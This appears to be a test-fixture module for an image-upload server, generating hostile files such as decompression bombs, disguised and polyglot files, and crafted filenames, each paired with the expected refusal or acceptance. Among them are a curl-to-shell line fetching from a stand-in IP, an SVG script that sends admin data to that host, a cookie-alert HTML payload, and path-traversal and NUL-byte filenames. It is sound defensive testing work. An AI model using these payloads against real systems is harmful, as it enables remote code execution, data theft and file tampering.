/**
 * Hostile files, made by code from one good photo: broken, oversized in pixels, disguised,
 * carrying a second payload, animated, or in an unusual colour space. Each says what a careful
 * server does with it: refuse it in words (`refuse`, a pattern the message must match) or take
 * it and store it in a form a browser shows as intended (`accept`).
 */
import fs from 'node:fs';
import zlib from 'node:zlib';
import sharp from 'sharp';
import { photoPath } from './photos';

export interface HostileFile {
  /** Test title. */
  name: string;
  filename: string;
  mime: string;
  make: (base: BasePhoto) => Promise<Buffer>;
  /** A pattern the 4xx message must match, or 'accept' for a file the server must take. */
  expect: RegExp | 'accept';
  /** A real image with a second payload appended: whatever is stored must not carry it. */
  hidesPayload?: true;
}

/** A little-endian record: [offset, width in bytes, value] fields over zeros. */
const record = (size: number, fields: Array<[number, 2 | 4, number]>) => {
  const b = Buffer.alloc(size);
  for (const [at, width, value] of fields) {
    if (width === 2) b.writeUInt16LE(value, at);
    else b.writeUInt32LE(value, at);
  }
  return b;
};

/** Bytes that only a ZIP reader would open (one stored entry). */
export const zipBytes = (): Buffer => {
  const name = Buffer.from('payload.txt');
  const data = Buffer.from('not part of any photo');
  const crc = zlib.crc32(data) >>> 0;
  const local = record(30, [[0, 4, 0x04034b50], [4, 2, 20], [14, 4, crc], [18, 4, data.length], [22, 4, data.length], [26, 2, name.length]]);
  const central = record(46, [[0, 4, 0x02014b50], [4, 2, 20], [6, 2, 20], [16, 4, crc], [20, 4, data.length], [24, 4, data.length], [28, 2, name.length]]);
  const end = record(22, [[0, 4, 0x06054b50], [8, 2, 1], [10, 2, 1], [12, 4, 46 + name.length], [16, 4, 30 + name.length + data.length]]);
  return Buffer.concat([local, name, data, central, name, end]);
};

/** A trailer no file sniffer recognises: a shell script and some binary, as a dropper would append. */
export const SCRIPT_TAIL = Buffer.concat([Buffer.from('#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n'), Buffer.alloc(64, 0x41), Buffer.from([1, 2, 3, 4, 5])]);

const chunk = (type: string, data: Buffer) => {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(Buffer.concat([head.subarray(4), data])) >>> 0);
  return Buffer.concat([head, data, crc]);
};

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** PNG chunks after the signature: [type, data, offset of the chunk]. */
const pngChunks = (png: Buffer) => {
  const out: Array<{ type: string; data: Buffer; at: number }> = [];
  for (let p = 8; p + 12 <= png.length; ) {
    const len = png.readUInt32BE(p);
    out.push({ type: png.toString('latin1', p + 4, p + 8), data: png.subarray(p + 8, p + 8 + len), at: p });
    p += 12 + len;
  }
  return out;
};

/**
 * A valid 1-bit greyscale PNG of `size` x `size` pixels, all black but one white row: a few
 * kilobytes that decode to size² pixels (a "pixel flood", or decompression bomb).
 */
export const pixelFloodPng = (size: number): Buffer => {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(size, 0);
  ihdr.writeUInt32BE(size, 4);
  ihdr[8] = 1; // bit depth
  ihdr[9] = 0; // greyscale
  const stride = 1 + Math.ceil(size / 8);
  const row = Buffer.alloc(stride);
  const white = Buffer.alloc(stride, 0xff);
  white[0] = 0;
  const rows: Buffer[] = [];
  for (let y = 0; y < size; y++) rows.push(y === size >> 1 ? white : row);
  const idat = zlib.deflateSync(Buffer.concat(rows), { level: 9 });
  return Buffer.concat([PNG_SIGNATURE, chunk('IHDR', ihdr), chunk('IDAT', idat), chunk('IEND', Buffer.alloc(0))]);
};

/** The JPEG's frame header (SOF0..SOF3) rewritten to claim `w` x `h`; the scan is left as it was. */
const jpegClaiming = (jpeg: Buffer, w: number, h: number): Buffer => {
  const out = Buffer.from(jpeg);
  for (let p = 2; p + 9 < out.length; ) {
    const marker = out[p + 1];
    const len = out.readUInt16BE(p + 2);
    if (marker >= 0xc0 && marker <= 0xc3) {
      out.writeUInt16BE(h, p + 5);
      out.writeUInt16BE(w, p + 7);
      return out;
    }
    p += 2 + len;
  }
  throw new Error('no SOF marker');
};

/** A lossless WebP whose header claims `size` x `size` (at most 16383, the format's maximum). */
const webpClaiming = async (size: number): Promise<Buffer> => {
  const webp = Buffer.from(await sharp({ create: { width: 600, height: 600, channels: 3, background: '#b08d57' } }).webp({ lossless: true }).toBuffer());
  const at = webp.indexOf('VP8L', 12, 'latin1');
  if (at < 0) throw new Error('not a VP8L WebP');
  // After the 0x2f signature: 14 bits width-1, 14 bits height-1 (little-endian bit order).
  const bits = webp.readUInt32LE(at + 9);
  const side = (size - 1) & 0x3fff;
  webp.writeUInt32LE((bits & ~0x0fffffff) | side | (side << 14), at + 9);
  return webp;
};

/** A GIF whose logical screen is 65535 x 65535 with a 1x1 frame. */
const gifHugeScreen = (): Buffer =>
  Buffer.concat([
    Buffer.from('GIF89a', 'latin1'),
    Buffer.from([0xff, 0xff, 0xff, 0xff, 0x80, 0, 0]),
    Buffer.from([0, 0, 0, 255, 255, 255]),
    Buffer.from([0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 0x02, 0x02, 0x44, 0x01, 0x00, 0x3b]),
  ]);

/** A two-frame APNG (the same picture twice) from a plain PNG: acTL, fcTL + IDAT, fcTL + fdAT. */
const apngFrom = (png: Buffer): Buffer => {
  const chunks = pngChunks(png);
  const ihdr = chunks.find((c) => c.type === 'IHDR')!.data;
  const idat = Buffer.concat(chunks.filter((c) => c.type === 'IDAT').map((c) => c.data));
  const fctl = (seq: number) => {
    const b = Buffer.alloc(26);
    b.writeUInt32BE(seq, 0);
    b.writeUInt32BE(ihdr.readUInt32BE(0), 4);
    b.writeUInt32BE(ihdr.readUInt32BE(4), 8);
    b.writeUInt16BE(1, 20);
    b.writeUInt16BE(2, 22);
    return b;
  };
  const actl = Buffer.alloc(8);
  actl.writeUInt32BE(2, 0);
  const seq = Buffer.alloc(4);
  seq.writeUInt32BE(2, 0);
  return Buffer.concat([
    PNG_SIGNATURE,
    chunk('IHDR', ihdr),
    chunk('acTL', actl),
    chunk('fcTL', fctl(0)),
    chunk('IDAT', idat),
    chunk('fcTL', fctl(1)),
    chunk('fdAT', Buffer.concat([seq, idat])),
    chunk('IEND', Buffer.alloc(0)),
  ]);
};

/** The PNG with its first IDAT's CRC wrong (the data itself intact). */
const badCrc = (png: Buffer): Buffer => {
  const out = Buffer.from(png);
  const idat = pngChunks(out).find((c) => c.type === 'IDAT')!;
  const crcAt = idat.at + 8 + idat.data.length;
  out.writeUInt32BE(out.readUInt32BE(crcAt) ^ 0xdeadbeef, crcAt);
  return out;
};

/** The JPEG with garbage written over the middle of its entropy-coded scan. */
const scrambledScan = (jpeg: Buffer): Buffer => {
  const out = Buffer.from(jpeg);
  const sos = out.indexOf(Buffer.from([0xff, 0xda]));
  const from = sos + Math.floor((out.length - sos) / 2);
  for (let i = 0; i < 2048 && from + i < out.length - 2; i++) out[from + i] = (i * 131 + 7) & 0xff;
  return out;
};

const cut = (b: Buffer, fraction: number) => Buffer.from(b.subarray(0, Math.floor(b.length * fraction)));

const SVG_SCRIPT =
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="900" height="900"><script>fetch("/admin/users").then(r=>r.text()).then(t=>navigator.sendBeacon("//203.0.113.9",t))</script><rect width="900" height="900" fill="gold"/></svg>';

/** The source every file below is made from: a real product photo, 900 px on its long side. */
export interface BasePhoto {
  jpeg: Buffer;
  png: Buffer;
  webp: Buffer;
}
let base: Promise<BasePhoto> | undefined;
export const basePhoto = () =>
  (base ??= (async () => {
    const input = fs.readFileSync(photoPath('07_'));
    const jpeg = await sharp(input).resize({ width: 900, height: 900, fit: 'inside' }).jpeg({ quality: 88 }).toBuffer();
    return { jpeg, png: await sharp(jpeg).png().toBuffer(), webp: await sharp(jpeg).webp({ quality: 85 }).toBuffer() };
  })());

/** Four frames of the photo, shifted, as an animation (GIF or WebP). */
const animated = async (jpeg: Buffer, format: 'gif' | 'webp') => {
  const frame = await sharp(jpeg).resize(600, 600, { fit: 'cover' }).raw().toBuffer();
  const frames = [0, 40, 80, 120].map((shift) => Buffer.concat([frame.subarray(shift * 600 * 3), frame.subarray(0, shift * 600 * 3)]));
  const strip = sharp(Buffer.concat(frames), { raw: { width: 600, height: 2400, channels: 3, pageHeight: 600 } as any });
  return format === 'gif' ? strip.gif({ delay: [100, 100, 100, 100], loop: 0 }).toBuffer() : strip.webp({ quality: 80, delay: [100, 100, 100, 100], loop: 0 }).toBuffer();
};

const NOT_A_PHOTO = /not a photo/;
const DAMAGED = /damaged|incomplete|empty/;
const TOO_MANY_PIXELS = /megapixels|more pixels than/;
const REFUSED_FOR_SAFETY = /refused for safety/;

/**
 * Files for every route that takes an image. `accept` files must come back usable: upright,
 * in sRGB, 8-bit, first frame only where that is what the route promises.
 */
export const HOSTILE_FILES: HostileFile[] = [
  { name: 'zero bytes', filename: 'empty.jpg', mime: 'image/jpeg', make: async () => Buffer.alloc(0), expect: /empty/ },
  { name: 'JPEG cut mid-stream', filename: 'cut.jpg', mime: 'image/jpeg', make: async (b) => cut(b.jpeg, 0.4), expect: DAMAGED },
  { name: 'PNG cut mid-stream', filename: 'cut.png', mime: 'image/png', make: async (b) => cut(b.png, 0.4), expect: DAMAGED },
  { name: 'WebP cut mid-stream', filename: 'cut.webp', mime: 'image/webp', make: async (b) => cut(b.webp, 0.4), expect: DAMAGED },
  { name: 'JPEG cut after its header', filename: 'header-only.jpg', mime: 'image/jpeg', make: async (b) => cut(b.jpeg, 0.02), expect: DAMAGED },
  { name: 'PNG with a bad IDAT CRC', filename: 'bad-crc.png', mime: 'image/png', make: async (b) => badCrc(b.png), expect: DAMAGED },
  { name: 'JPEG with a scrambled scan', filename: 'scrambled.jpg', mime: 'image/jpeg', make: async (b) => scrambledScan(b.jpeg), expect: 'accept' },
  { name: 'pixel flood: 20000x20000 PNG of a few KB', filename: 'flood-20000.png', mime: 'image/png', make: async () => pixelFloodPng(20000), expect: TOO_MANY_PIXELS },
  { name: 'pixel flood: 12000x12000 PNG (under libvips\' own limit)', filename: 'flood-12000.png', mime: 'image/png', make: async () => pixelFloodPng(12000), expect: TOO_MANY_PIXELS },
  { name: 'JPEG header claiming 30000x30000', filename: 'huge-header.jpg', mime: 'image/jpeg', make: async (b) => jpegClaiming(b.jpeg, 30000, 30000), expect: TOO_MANY_PIXELS },
  // Past what the JPEG decoder itself accepts (65500): it cannot be read at all.
  { name: 'JPEG header claiming 65535x65535', filename: 'impossible-header.jpg', mime: 'image/jpeg', make: async (b) => jpegClaiming(b.jpeg, 65535, 65535), expect: DAMAGED },
  { name: 'WebP header claiming 16000x16000', filename: 'huge-header.webp', mime: 'image/webp', make: async () => webpClaiming(16000), expect: TOO_MANY_PIXELS },
  { name: 'GIF screen of 65535x65535 in 40 bytes', filename: 'huge-screen.gif', mime: 'image/gif', make: async () => gifHugeScreen(), expect: /GIF/ },
  { name: 'SVG with a script', filename: 'script.svg', mime: 'image/svg+xml', make: async () => Buffer.from(SVG_SCRIPT), expect: /SVG/ },
  { name: 'SVG with a script named .jpg', filename: 'innocent.jpg', mime: 'image/jpeg', make: async () => Buffer.from(SVG_SCRIPT), expect: /SVG/ },
  { name: 'HTML named .png', filename: 'page.png', mime: 'image/png', make: async () => Buffer.from('<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>'), expect: /web page/ },
  { name: 'PDF named .jpg', filename: 'doc.jpg', mime: 'image/jpeg', make: async () => Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'), expect: /PDF/ },
  { name: 'ZIP named .jpg', filename: 'archive.jpg', mime: 'image/jpeg', make: async () => zipBytes(), expect: /archive/ },
  { name: 'ELF program named .png', filename: 'prog.png', mime: 'image/png', make: async () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120, 0)]), expect: NOT_A_PHOTO },
  { name: 'plain text named .webp', filename: 'notes.webp', mime: 'image/webp', make: async () => Buffer.from('just some words, no pixels at all\n'.repeat(20)), expect: /text/ },
  { name: 'polyglot: JPEG with a ZIP tail', filename: 'zip-tail.jpg', mime: 'image/jpeg', make: async (b) => Buffer.concat([b.jpeg, zipBytes()]), expect: REFUSED_FOR_SAFETY, hidesPayload: true },
  { name: 'polyglot: PNG with a ZIP tail', filename: 'zip-tail.png', mime: 'image/png', make: async (b) => Buffer.concat([b.png, zipBytes()]), expect: REFUSED_FOR_SAFETY, hidesPayload: true },
  { name: 'polyglot: JPEG with an HTML tail', filename: 'html-tail.jpg', mime: 'image/jpeg', make: async (b) => Buffer.concat([b.jpeg, Buffer.from('<html><script>alert(1)</script></html>')]), expect: REFUSED_FOR_SAFETY, hidesPayload: true },
  { name: 'JPEG with a script tail no sniffer knows (stored without it)', filename: 'script-tail.jpg', mime: 'image/jpeg', make: async (b) => Buffer.concat([b.jpeg, SCRIPT_TAIL]), expect: 'accept', hidesPayload: true },
  { name: 'animated GIF', filename: 'animated.gif', mime: 'image/gif', make: (b) => animated(b.jpeg, 'gif'), expect: /GIF/ },
  { name: 'animated WebP (first frame)', filename: 'animated.webp', mime: 'image/webp', make: (b) => animated(b.jpeg, 'webp'), expect: 'accept' },
  { name: 'APNG', filename: 'animated.png', mime: 'image/png', make: async (b) => apngFrom(await sharp(b.jpeg).resize(600, 600, { fit: 'cover' }).png().toBuffer()), expect: /animated|APNG/ },
  { name: 'CMYK JPEG (converted to sRGB)', filename: 'cmyk.jpg', mime: 'image/jpeg', make: (b) => sharp(b.jpeg).toColourspace('cmyk').jpeg({ quality: 90 }).toBuffer(), expect: 'accept' },
  { name: '16-bit PNG (reduced to 8-bit)', filename: 'deep.png', mime: 'image/png', make: (b) => sharp(b.jpeg).toColourspace('rgb16').png().toBuffer(), expect: 'accept' },
  { name: 'EXIF-rotated JPEG (stored upright)', filename: 'rotated.jpg', mime: 'image/jpeg', make: async (b) => sharp(await sharp(b.jpeg).rotate(270).toBuffer()).withMetadata({ orientation: 6 }).jpeg({ quality: 88 }).toBuffer(), expect: 'accept' },
  { name: 'PNG sent as image/jpeg with a .jpg name', filename: 'really-a-png.jpg', mime: 'image/jpeg', make: async (b) => b.png, expect: 'accept' },
  { name: 'a 1x1 pixel', filename: 'dot.png', mime: 'image/png', make: () => sharp({ create: { width: 1, height: 1, channels: 3, background: '#000' } }).png().toBuffer(), expect: /only 1×1 pixels/ },
  { name: 'file name with a NUL byte', filename: 'photo\u0000.php.jpg', mime: 'image/jpeg', make: async (b) => b.jpeg, expect: 'accept' },
  { name: 'file name with ../ segments', filename: '../../../../config/evil.jpg', mime: 'image/jpeg', make: async (b) => b.jpeg, expect: 'accept' },
  { name: 'a 1000-character file name', filename: `${'long-name-'.repeat(100)}.jpg`, mime: 'image/jpeg', make: async (b) => b.jpeg, expect: 'accept' },
];
